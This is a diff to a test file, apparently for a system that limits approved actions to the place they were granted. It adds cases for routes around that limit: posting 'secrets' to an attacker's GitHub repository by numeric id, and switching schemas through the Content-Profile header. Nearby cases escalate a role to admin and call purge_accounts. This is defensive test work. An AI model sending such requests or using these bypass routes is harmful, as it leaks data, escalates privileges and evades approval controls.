@@ -253,7 +253,11 @@ t.test('a grant covers the place it was approved for: another repository, channe
       req('POST', 'https://api.github.com/repos/acme/widgets/issues/1/comments', 'application/json', json({ body: 'ok' })),
       req('POST', 'https://api.github.com/repos/acme/widgets/issues/2/comments', 'application/json', json({ body: 'also' })),
       // An attacker's public repository is an exfiltration channel.
-      [req('POST', 'https://api.github.com/repos/attacker/inbox/issues/1/comments', 'application/json', json({ body: 'secrets' }))],
+      [
+        req('POST', 'https://api.github.com/repos/attacker/inbox/issues/1/comments', 'application/json', json({ body: 'secrets' })),
+        // The same route by repository id (GitHub serves /repositories/{id}/… as /repos/{owner}/{repo}/…).
+        req('POST', 'https://api.github.com/repositories/1296269/issues/1/comments', 'application/json', json({ body: 'secrets' })),
+      ],
     ],
     [
       req('POST', 'https://slack.com/api/chat.postMessage', 'application/json', json({ channel: 'C0TEAM', text: 'build green' })),
@@ -268,7 +272,11 @@ t.test('a grant covers the place it was approved for: another repository, channe
     [
       req('PATCH', 'https://abcdefghijkl.supabase.co/rest/v1/todos?id=eq.1', 'application/json', json({ done: true })),
       req('PATCH', 'https://abcdefghijkl.supabase.co/rest/v1/todos?id=eq.2', 'application/json', json({ done: true })),
-      [req('PATCH', 'https://abcdefghijkl.supabase.co/rest/v1/profiles?id=eq.2', 'application/json', json({ role: 'admin' }))],
+      [
+        req('PATCH', 'https://abcdefghijkl.supabase.co/rest/v1/profiles?id=eq.2', 'application/json', json({ role: 'admin' })),
+        // The same table name in another exposed schema (PostgREST's Content-Profile picks it).
+        req('PATCH', 'https://abcdefghijkl.supabase.co/rest/v1/todos?id=eq.2', 'application/json', json({ done: true }), [['content-profile', 'billing']]),
+      ],
     ],
     [
       // Stripe Connect: the same update on another connected account (Stripe-Account) is elsewhere.
@@ -294,7 +302,10 @@ t.test('a grant covers the place it was approved for: another repository, channe
     [
       req('POST', 'https://abcdefghijkl.supabase.co/rest/v1/rpc/mark_done', 'application/json', json({ id: 1 })),
       req('POST', 'https://abcdefghijkl.supabase.co/rest/v1/rpc/mark_done', 'application/json', json({ id: 2 })),
-      [req('POST', 'https://abcdefghijkl.supabase.co/rest/v1/rpc/purge_accounts', 'application/json', json({}))],
+      [
+        req('POST', 'https://abcdefghijkl.supabase.co/rest/v1/rpc/purge_accounts', 'application/json', json({})),
+        req('POST', 'https://abcdefghijkl.supabase.co/rest/v1/rpc/mark_done', 'application/json', json({ id: 2 }), [['content-profile', 'internal']]),
+      ],
     ],
   ];
   for (const [approved, again, elsewhere] of cases) {
